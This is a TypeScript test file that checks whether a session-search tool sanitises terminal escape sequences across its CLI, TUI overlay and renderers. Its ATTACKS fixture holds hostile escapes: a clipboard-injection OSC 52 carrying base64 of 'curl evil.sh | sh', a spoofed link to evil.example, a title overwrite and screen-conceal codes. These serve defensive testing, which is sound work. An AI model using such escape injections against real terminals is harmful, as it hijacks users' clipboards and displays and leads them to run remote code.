/**
 * A hostile session's escapes against every text face: OSC 52 (clipboard), OSC 8 (links), OSC 0 (title), CSI (cursor,
 * colours, hide), C1 bytes, BEL, DEL and a bare CR, in a session's name, cwd, prompt and tool output. `search`, `read`,
 * `browse`, `stats` and a Markdown export to stdout, with and without colour, as text and JSON; the overlay's rows and
 * preview; the tool's call and result renderers and its summary lines; a preview cut through an OSC. Nothing reaches
 * the terminal as a control: the only escapes left are lookback's own colours (and pi-tui's own resets).
 */

import { cpSync, mkdirSync, mkdtempSync, rmSync } from "node:fs";
import { tmpdir } from "node:os";
import { join } from "node:path";
import { Text } from "@mariozechner/pi-tui";
import { afterAll, beforeAll, describe, expect, it } from "vitest";
import { run } from "../../src/cli/main.js";
import { terminalSafe } from "../../src/core/index.js";
import { notify } from "../../src/extension/notify.js";
import { previewLines, rowLines } from "../../src/extension/overlay-lines.js";
import { overlayPreview, overlayResults } from "../../src/extension/overlay-results.js";
import { renderCall, renderResult } from "../../src/extension/render.js";
import { runSessionSearch } from "../../src/extension/run-tool.js";
import { summaryLines } from "../../src/extension/summary-lines.js";
import { openNodeIndex } from "../../src/node/open.js";
import { FIXTURES, settledIndex } from "../helpers.js";
import { assistantMessage, newSession, toolResult, userMessage } from "../pi-sessions.js";

const ESC = "\x1b";
const ATTACKS = [
	`${ESC}]52;c;${Buffer.from("curl evil.sh | sh").toString("base64")}\x07`, // the clipboard
	`${ESC}]8;;https://evil.example/${ESC}\\click${ESC}]8;;${ESC}\\`, // a link
	`${ESC}]0;owned title\x07`, // the window's title
	`${ESC}[2J${ESC}[H${ESC}[8m`, // clear, home, conceal
	"\u009b31m\u009d0;c1 title\u009c", // C1 CSI, OSC, ST
	"bell\x07 del\x7f cr\rover",
].join(" ");

/** The C0 controls but newline and tab, DEL and C1, once lookback's own colour codes and pi-tui's resets are taken out. */
function controlsIn(text: string): string[] {
	const own = text.replace(/\x1b\[(?:1|2|22|33|39|1;33|22;39|0|36)m|\x1b_pi:c\x07/g, "");
	return [...own.matchAll(/[\u0000-\u0008\u000b-\u001f\u007f-\u009f]/g)].map((m) => JSON.stringify(m[0]));
}

let home: string;
let agentDir: string;
let sessionId: string;

beforeAll(async () => {
	// Not a tempDir, which goes after each test.
	home = mkdtempSync(join(tmpdir(), "escapes-"));
	agentDir = join(home, "agent");
	mkdirSync(agentDir, { recursive: true });
	cpSync(FIXTURES, join(agentDir, "sessions"), { recursive: true });
	const sm = newSession(join(agentDir, "sessions"), `/home/dev/proj${ESC}]0;cwd title\x07x`);
	sm.appendSessionInfo(`okapimarker name ${ATTACKS}`);
	// The OSC opens just before the snippet's budget ends: a preview cut there must leave nothing open.
	sm.appendMessage(userMessage(`okapimarker ${"word ".repeat(30)}${ESC}]52;c;${"QUJD".repeat(400)}\x07 after the OSC ${ATTACKS}`));
	sm.appendMessage(assistantMessage(`okapimarker reply ${ATTACKS}`, [{ name: "bash", arguments: { command: `echo ${ATTACKS}` } }]));
	sm.appendMessage(toolResult("bash", `okapimarker output ${ATTACKS}`));
	sessionId = sm.getSessionId();
});
afterAll(() => rmSync(home, { recursive: true, force: true }));

async function cli(argv: string[], tty: boolean, env: Record<string, string> = {}) {
	let out = "";
	const code = await run([...argv, "--agent-dir", agentDir], {
		stdout: (t) => (out += t),
		stderr: (t) => (out += t),
		env: { HOME: "/nonexistent-lookback-home", ...env },
		isTTY: tty,
	});
	return { code, out };
}

describe("a session's escapes on every text face", () => {
	it("the command line: search, read, browse, stats, export to stdout, with and without colour, text and JSON", async () => {
		const commands = [
			["search", "okapimarker"],
			["read", sessionId],
			["read", sessionId, "--full"],
			["browse"],
			["stats"],
			["export", sessionId],
			["export", sessionId, "--format", "json"],
			["export", sessionId, "--no-redact", "--format", "html"],
			["search", "okapimarker", "--json"],
			["read", sessionId, "--json"],
			["browse", "--json"],
			["read", `no-such-${ESC}]0;x\x07`],
		];
		for (const command of commands) {
			for (const [tty, env] of [
				[true, {}],
				[true, { NO_COLOR: "1" }],
				[false, {}],
			] as const) {
				const r = await cli(command, tty, env);
				expect(controlsIn(r.out), `${command.join(" ")} tty=${tty} ${JSON.stringify(env)}`).toEqual([]);
				if (command[0] !== "stats" && !(command[1] ?? "").startsWith("no-such")) expect(r.out).toContain("okapimarker");
			}
		}
		// What they said is still there, shown: the escape as ␛, BEL as ␇, a C1 CSI as \x9b.
		const read = await cli(["read", sessionId], false);
		expect(read.out).toContain("␛]52;c;");
		expect(read.out).toContain("\\x9b31m");
		expect(read.out).toContain("bell␇ del␡ cr␍over");
		// JSON parses back to the same text.
		const json = JSON.parse((await cli(["read", sessionId, "--json"], true)).out);
		expect(JSON.stringify(json)).toContain("\\u001b]52;c;");
		expect(json.messages.some((m: { text: string }) => m.text.includes("\u009b31m"))).toBe(true);
	});

	it("Pi's TUI: the overlay's rows and preview, the tool's renderers and summary lines, and what it notifies", async () => {
		const opened = await openNodeIndex({ agentDir, env: { HOME: "/nonexistent-lookback-home" } });
		await opened.index.sync(opened.source);
		const theme = { fg: (_c: string, t: string) => t, bold: (t: string) => t };
		const results = overlayResults(opened.index, "okapimarker");
		expect(results.rows.length, JSON.stringify(results)).toBeGreaterThan(0);
		for (const width of [40, 120, 400]) {
			for (const row of results.rows) {
				for (const line of rowLines(row, true, theme, width)) expect(controlsIn(line), line).toEqual([]);
				const preview = overlayPreview(opened.index, row);
				for (const line of previewLines(preview.messages, preview.focus, theme, width).lines) expect(controlsIn(line)).toEqual([]);
			}
		}
		const local = settledIndex(opened);
		for (const params of [{ query: "okapimarker" }, { sessionId }, { sessionId, query: "okapimarker" }, {}]) {
			const toolRun = await runSessionSearch(local, params);
			const lines = summaryLines(JSON.parse(toolRun.text));
			expect(lines.join("\n")).toContain("okapimarker");
			for (const line of lines) expect(controlsIn(line)).toEqual([]);
			const result = { content: [{ type: "text", text: toolRun.text }], details: { lines } };
			for (const expanded of [true, false])
				for (const line of renderResult(Text, result, { expanded, isPartial: false }, theme).render(100))
					expect(controlsIn(line)).toEqual([]);
		}
		for (const line of renderCall(Text, { query: `okapimarker ${ATTACKS}` }, theme).render(200)) expect(controlsIn(line)).toEqual([]);
		const said: string[] = [];
		notify({ ui: { notify: (text: string) => said.push(text) } } as never, `restored "${ATTACKS}"`, "info");
		expect(controlsIn(said[0])).toEqual([]);
		opened.index.close();
	});

	it("terminalSafe: every control but newline and tab made visible, CRLF a newline, nothing else changed", () => {
		for (let code = 0; code < 0xa0; code++) {
			const c = String.fromCharCode(code);
			const safe = terminalSafe(`a${c}b`);
			if (c === "\n" || c === "\t" || (code >= 0x20 && code < 0x7f)) expect(safe).toBe(`a${c}b`);
			else expect(controlsIn(safe), `U+${code.toString(16)}`).toEqual([]);
		}
		expect(terminalSafe("one\r\ntwo")).toBe("one\ntwo");
		expect(terminalSafe("数据库 🙂 ｗｉｄｅ")).toBe("数据库 🙂 ｗｉｄｅ");
	});
});
